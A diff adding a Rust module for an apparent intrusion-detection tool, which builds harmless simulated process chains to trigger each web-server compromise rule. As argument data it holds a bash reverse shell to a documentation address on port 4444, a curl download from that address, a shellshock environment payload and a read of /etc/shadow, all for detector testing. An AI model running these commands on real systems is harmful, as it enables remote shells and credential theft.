@@ -1,0 +1,264 @@
+//! One harmless chain for each shipped rule, or why there is none.
+
+use std::{collections::BTreeMap, net::SocketAddr, path::PathBuf};
+
+use super::deed::{Deed, Exec, How};
+
+/// An address nobody has (RFC 5737).
+const NOBODY: [u8; 4] = [203, 0, 113, 7];
+/// Loader of dynamic programs on x86-64 and aarch64.
+pub(super) const LOADERS: [&str; 2] = ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"];
+
+/// What makes a rule alert.
+pub(super) struct Scenario {
+    /// Name and arguments of the server, from the zeroth.
+    pub(super) server: Vec<String>,
+    /// What its first process does.
+    pub(super) deeds: Vec<Deed>,
+}
+
+/// Directories of a simulation.
+pub(super) struct Stage {
+    /// Everything is below it.
+    pub(super) root: PathBuf,
+}
+
+/// A rule that is not simulated, and why.
+pub(super) const NOT_SIMULATED: &[(&str, &str)] = &[
+    (
+        "server_module_changed",
+        "would write into a directory of a server's configuration",
+    ),
+    (
+        "server_module_changed_by_administrator",
+        "would write into a directory of a server's configuration",
+    ),
+];
+
+impl Stage {
+    /// The chain for a rule; `None` when there is none.
+    pub(super) fn scenario(&self, rule: &str) -> Option<Scenario> {
+        let php = |deeds| self.worker("php-fpm", deeds);
+        let java = |deeds| self.single("java", &["org.apache.catalina.startup.Bootstrap"], deeds);
+        Some(match rule {
+            "shell_under_app_worker" => php(vec![self.run("dash", &["sh", "-c", ":"])]),
+            "hostile_shell_command" => php(vec![self.run(
+                "bash",
+                &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
+            )]),
+            "recon_tool_under_service" => php(vec![self.run("id", &["id"])]),
+            "network_tool_under_service" => {
+                php(vec![self.run(
+                    "curl",
+                    &["curl", "-o", "/dev/null", "http://203.0.113.7/x"],
+                )])
+            }
+            "interpreter_one_liner" => php(vec![self.run("python3", &["python3", "-c", "pass"])]),
+            "exec_from_writable_directory" => php(vec![self.run("tool", &["tool"])]),
+            "memory_only_execution" => php(vec![
+                self.exec("tool", &["tool"], |exec| exec.memory = true),
+            ]),
+            "masqueraded_server" => php(vec![self.run("nginx", &["nginx: worker process"])]),
+            "masqueraded_shell" => php(vec![Deed::Exec(Box::new(Exec {
+                path: self.file("shell/report"),
+                argv: words(&["report", "-c", ":"]),
+                ..Exec::default()
+            }))]),
+            "loader_started_shell" => php(vec![Deed::Exec(Box::new(Exec {
+                path: loader()?,
+                argv: words(&["ld.so", "/bin/sh", "-c", ":"]),
+                ..Exec::default()
+            }))]),
+            "worker_replaced_itself" => java(vec![
+                self.exec("tool", &["tool"], |exec| exec.in_place = true),
+            ]),
+            "daemonised_descendant" => php(vec![Deed::Orphan(vec![self.exec(
+                "tool",
+                &["tool"],
+                |exec| exec.in_place = true,
+            )])]),
+            "preload_environment" => php(vec![self.exec("tool", &["tool"], |exec| {
+                exec.env = self.preload();
+            })]),
+            "preload_of_written_library" => php(vec![
+                self.write("x.so", How::Create),
+                self.exec("tool", &["tool"], |exec| exec.env = self.preload()),
+            ]),
+            "shellshock_environment" => self.worker(
+                "apache2",
+                vec![self.exec("bash", &["bash", "-c", ":"], |exec| {
+                    let value = "() { :;}; :".to_owned();
+                    exec.env = BTreeMap::from([("HTTP_USER_AGENT".to_owned(), value)]);
+                })],
+            ),
+            "edge_server_executed_program" => {
+                self.worker("nginx", vec![self.run("tool", &["tool"])])
+            }
+            "cgi_ran_unknown_script" => self.worker(
+                "fcgiwrap",
+                vec![
+                    self.write("htdocs/x.pl", How::Create),
+                    self.run("perl", &["perl", &self.name("htdocs/x.pl")]),
+                ],
+            ),
+            "database_spawned_program" => {
+                self.worker("postgres", vec![self.run("dash", &["sh", "-c", ":"])])
+            }
+            "database_wrote_script_or_library" => {
+                self.worker("postgres", vec![self.write("htdocs/x.php", How::Create)])
+            }
+            "database_loaded_library" => self.worker(
+                "postgres",
+                vec![
+                    self.write("x.so", How::Create),
+                    Deed::Read(self.file("x.so")),
+                ],
+            ),
+            "java_lookup_then_spawn" => java(vec![
+                Deed::Connect(SocketAddr::from((NOBODY, 1_389))),
+                self.run("dash", &["sh", "-c", ":"]),
+            ]),
+            "java_page_deployed" => java(vec![self.write("webapps/ROOT/x.jsp", How::Create)]),
+            "process_memory_written" => {
+                java(vec![Deed::Write("/proc/self/mem".into(), How::Update)])
+            }
+            _ => return self.of_files(rule),
+        })
+    }
+
+    /// Chains whose point is a file or a connect.
+    fn of_files(&self, rule: &str) -> Option<Scenario> {
+        let php = |deeds| self.worker("php-fpm", deeds);
+        let connects = |program: &str, port| {
+            self.exec(program, &[program], |exec| {
+                exec.deeds = vec![Deed::Connect(SocketAddr::from((NOBODY, port)))];
+            })
+        };
+        Some(match rule {
+            "script_created_in_web_root" => php(vec![self.write("htdocs/x.php", How::Create)]),
+            "script_created_in_upload_directory" => php(vec![
+                self.write("phpAbCdEf", How::Create),
+                Deed::Rename(self.file("phpAbCdEf"), self.file("htdocs/uploads/x.php")),
+            ]),
+            "script_created_in_cache_directory" => {
+                php(vec![self.write("htdocs/var/cache/x.php", How::Create)])
+            }
+            "script_written_by_tool" => {
+                php(vec![self.exec("curl", &["curl", "-o", "x.php"], |exec| {
+                    exec.deeds = vec![self.write("htdocs/x.php", How::Create)];
+                })])
+            }
+            "existing_script_modified" => php(vec![self.write("htdocs/old.php", How::Append)]),
+            "entry_script_modified" => php(vec![self.write("htdocs/index.php", How::Append)]),
+            "handler_file_changed" => {
+                php(vec![self.write("htdocs/uploads/.htaccess", How::Create)])
+            }
+            "handler_file_rewritten" => php(vec![self.write("htdocs/.htaccess", How::Update)]),
+            "sensitive_file_read" => php(vec![Deed::Read("/etc/shadow".into())]),
+            "server_loaded_foreign_library" => php(vec![
+                self.write("x.so", How::Create),
+                Deed::Read(self.file("x.so")),
+            ]),
+            "written_file_executed" => php(vec![
+                Deed::Exec(Box::new(Exec {
+                    path: self.file("bin/cp"),
+                    argv: words(&["cp", "tool", "fetched"]),
+                    deeds: vec![Deed::Write(self.file("bin/fetched"), How::Append)],
+                    ..Exec::default()
+                })),
+                self.run("fetched", &["fetched"]),
+            ]),
+            "written_script_run" => php(vec![
+                self.write("x.sh", How::Create),
+                self.exec("dash", &["sh", &self.name("x.sh")], |exec| {
+                    exec.deeds = vec![Deed::Read(self.file("x.sh"))];
+                }),
+            ]),
+            "shell_connects_out" => php(vec![connects("bash", 4_444)]),
+            "interpreter_connects_out" => php(vec![connects("python3", 4_444)]),
+            "interpreter_connects_inside" => {
+                let inside = SocketAddr::from(([10, 255, 255, 254], 3_306));
+                php(vec![self.exec("python3", &["python3", "job.py"], |exec| {
+                    exec.deeds = vec![Deed::Connect(inside)];
+                })])
+            }
+            _ => return None,
+        })
+    }
+
+    /// A server whose worker does this.
+    fn worker(&self, name: &str, deeds: Vec<Deed>) -> Scenario {
+        self.single(name, &[], vec![Deed::Fork(deeds)])
+    }
+
+    /// A server of one process.
+    fn single(&self, name: &str, arguments: &[&str], deeds: Vec<Deed>) -> Scenario {
+        let server = std::iter::once(name).chain(arguments.iter().copied());
+        Scenario {
+            server: server.map(str::to_owned).collect(),
+            deeds,
+        }
+    }
+
+    fn run(&self, program: &str, argv: &[&str]) -> Deed {
+        self.exec(program, argv, |_| ())
+    }
+
+    fn exec(&self, program: &str, argv: &[&str], change: impl FnOnce(&mut Exec)) -> Deed {
+        let mut exec = Exec {
+            path: self.program(program),
+            argv: words(argv),
+            ..Exec::default()
+        };
+        change(&mut exec);
+        Deed::Exec(Box::new(exec))
+    }
+
+    fn write(&self, name: &str, how: How) -> Deed {
+        Deed::Write(self.file(name), how)
+    }
+
+    /// The copy of this binary under a name.
+    pub(super) fn program(&self, name: &str) -> PathBuf {
+        self.root.join("bin").join(name)
+    }
+
+    /// A file of the simulation.
+    pub(super) fn file(&self, name: &str) -> PathBuf {
+        self.root.join(name)
+    }
+
+    fn name(&self, name: &str) -> String {
+        self.file(name).to_string_lossy().into_owned()
+    }
+
+    fn preload(&self) -> BTreeMap<String, String> {
+        BTreeMap::from([("LD_PRELOAD".to_owned(), self.name("x.so"))])
+    }
+}
+
+/// Every program that a scenario runs: copies of this binary.
+pub(super) fn programs(deeds: &[Deed]) -> Vec<PathBuf> {
+    let mut found = Vec::new();
+    for deed in deeds {
+        match deed {
+            Deed::Fork(deeds) | Deed::Orphan(deeds) => found.extend(programs(deeds)),
+            Deed::Exec(exec) => {
+                found.push(exec.path.clone());
+                found.extend(programs(&exec.deeds));
+            }
+            _ => {}
+        }
+    }
+    found
+}
+
+/// The loader of this machine's dynamic programs.
+fn loader() -> Option<PathBuf> {
+    let mut loaders = LOADERS.iter().map(PathBuf::from);
+    loaders.find(|loader| loader.exists())
+}
+
+fn words(words: &[&str]) -> Vec<String> {
+    words.iter().map(|&word| word.to_owned()).collect()
+}
